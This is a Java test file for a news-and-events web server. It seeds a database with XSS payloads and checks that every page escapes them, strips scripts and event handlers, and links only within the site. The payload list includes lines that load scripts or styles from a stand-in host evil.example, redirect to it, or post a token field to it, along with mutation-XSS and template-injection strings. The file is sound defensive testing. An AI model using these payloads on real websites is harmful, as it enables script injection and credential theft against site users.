package entente.show.serve;

import static org.assertj.core.api.Assertions.assertThat;

import entente.keep.store.Ledger;
import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/** Words of strangers stay words, wherever they are shown. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileTextTest {
  private static final List<String> HOSTILE =
      List.of(
          "<script>alert(1)</script>",
          "\"><script src=//evil.example/x.js></script>",
          "<img src=x onerror=alert(1)>",
          "\" onmouseover=\"alert(1)\" x=\"",
          "' onfocus='alert(1)' autofocus='",
          "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
          "<svg><script>alert(1)</script></svg>",
          "</title><script>alert(1)</script>",
          "</code></td></table><iframe src=javascript:alert(1)></iframe>",
          "<a href=\"javascript:alert(1)\">open</a>",
          "<a href='data:text/html,<script>alert(1)</script>'>open</a>",
          "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
          "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
          "<form action=http://evil.example><input name=token></form>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<!-- --!><img src=x onerror=alert(1)> -->",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)",
          "\u202Egnp.exe\u202C \u2066<b>\u2069 \u200F",
          "\u0000<\u0000script>\u0008alert(1)",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
          "javascript:alert(1)",
          "\uFF1Cscript\uFF1Ealert(1)");

  private final List<String> paths = new ArrayList<>();
  private final Served served;

  HostileTextTest(@TempDir Path folder) throws SQLException, IOException {
    Path ledger = folder.resolve("hostile.duckdb");
    Ledger.open(ledger).close();
    try (Connection connection = DriverManager.getConnection("jdbc:duckdb:" + ledger)) {
      for (int i = 0; i < HOSTILE.size(); i++) {
        insert(connection, i, HOSTILE.get(i).replace("\u0000", ""));
      }
    }
    served = Served.of(ledger);
    paths.addAll(
        List.of(
            "/",
            "/events",
            "/articles",
            "/statements",
            "/ties",
            "/sources",
            "/network",
            "/search?q=alert",
            "/search?q=evil",
            "/state/KAZ"));
    for (String words : HOSTILE) {
      String encoded = URLEncoder.encode(words, StandardCharsets.UTF_8);
      paths.add("/search?q=" + encoded);
      for (String name : List.of("actor", "type", "status", "from", "sort", "format", "dataset")) {
        paths.add("/events?" + name + "=" + encoded);
      }
      paths.add("/network?hide=" + encoded);
      paths.add("/network?source=" + encoded);
      paths.add("/ties?outlet=" + encoded);
      paths.add("/events?" + encoded + "=1");
      paths.add("/articles?outlet=" + encoded);
      paths.add("/event/" + encoded.replace("+", "%20"));
      paths.add("/" + encoded.replace("+", "%20"));
    }
  }

  private void insert(Connection connection, int number, String words) throws SQLException {
    String article = "%012x".formatted(number);
    String text = words + " Kazakhstan met Russia " + words;
    run(
        connection,
        "INSERT INTO article VALUES (?, ?, 'text', ?, ?, ?, '2024-05-13', ?, ?, ?, ?)",
        article,
        words,
        words,
        words,
        words,
        words,
        words,
        text,
        words);
    run(
        connection,
        "INSERT INTO statement VALUES (?, ?, 0, ?, 0, ?, ?, ?, 'event', ?, ?, ?, 'actual', 'CT+',"
            + " 'reported', NULL, NULL, ?, 0.5, ?)",
        "%016x".formatted(number),
        article,
        text.length(),
        text.codePointCount(0, text.length()),
        text,
        text,
        words,
        words,
        words,
        words,
        words);
    run(
        connection,
        "INSERT INTO record (dataset, id, day, type, source, source_sector, target, target_sector,"
            + " address, text, place_name) VALUES ('gdelt', ?, '2024-05-13', ?, ?, ?, 'KAZ', ?, ?, ?, ?)",
        "g" + number,
        words,
        words,
        words,
        words,
        words,
        words,
        words);
    paths.add("/article/" + article);
    paths.add("/statement/%016x".formatted(number));
    paths.add("/event/gdelt:g" + number);
  }

  private static void run(Connection connection, String sql, Object... values) throws SQLException {
    try (PreparedStatement statement = connection.prepareStatement(sql)) {
      for (int i = 0; i < values.length; i++) {
        statement.setObject(i + 1, values[i]);
      }
      statement.executeUpdate();
    }
  }

  @AfterAll
  void stop() {
    served.close();
  }

  @Test
  void nothingRunsAndNothingLeadsAway() throws IOException, InterruptedException {
    for (String path : paths) {
      HttpResponse<String> response = served.get(path);
      assertThat(response.statusCode()).as(path + " " + served.slips()).isIn(200, 400, 404);
      if (response.headers().firstValue("Content-Type").orElse("").startsWith("text/html")) {
        harmless(path, Jsoup.parse(response.body()));
      }
      assertThat(response.body()).as(path).doesNotContain("\u202E", "\u2066", "\u200F");
    }
    assertThat(served.slips()).isEmpty();
  }

  private static void harmless(String path, Document page) {
    assertThat(page.select("body script, script:not([src~=^/(js|lib)/[a-z0-9-]+[.]js$])"))
        .as(path)
        .isEmpty();
    assertThat(page.select("iframe, object, embed, base, style, math, animate, template"))
        .as(path)
        .isEmpty();
    assertThat(
            page.select(
                "meta[http-equiv], link[rel=stylesheet]:not([href~=^/(css/[a-z-]+|site)[.]css$])"))
        .as(path)
        .isEmpty();
    assertThat(page.select("main")).as(path).hasSize(1);
    for (Element element : page.getAllElements()) {
      for (Attribute attribute : element.attributes()) {
        String name = attribute.getKey();
        assertThat(name).as(path).doesNotStartWith("on").isNotIn("style", "srcdoc", "autofocus");
        if (List.of("href", "src", "action", "formaction").contains(name)) {
          assertThat(attribute.getValue()).as(path).matches("(/(?!/)|#).*|/");
        }
      }
    }
  }

  @Test
  void theWordsAreThereAsTheyWereWritten() throws IOException, InterruptedException {
    String text = Jsoup.parse(served.get("/article/000000000002").body()).select(".text").text();
    assertThat(text).contains("<img src=x onerror=alert(1)> Kazakhstan met Russia");
  }

  @Test
  void onlyWebAddressesAreLinked() throws IOException, InterruptedException {
    Document record = Jsoup.parse(served.get("/event/gdelt:g22").body());
    assertThat(record.select("main a[href^=javascript]")).isEmpty();
    assertThat(record.text()).contains("javascript:alert(1)");
  }

  @Test
  void programsGetTheSameWords() throws IOException, InterruptedException {
    HttpResponse<String> json = served.get("/api/article/000000000000");
    assertThat(json.headers().firstValue("Content-Type")).contains(Answer.JSON);
    assertThat(json.body()).contains("<script>alert(1)</script> Kazakhstan met Russia");
  }
}
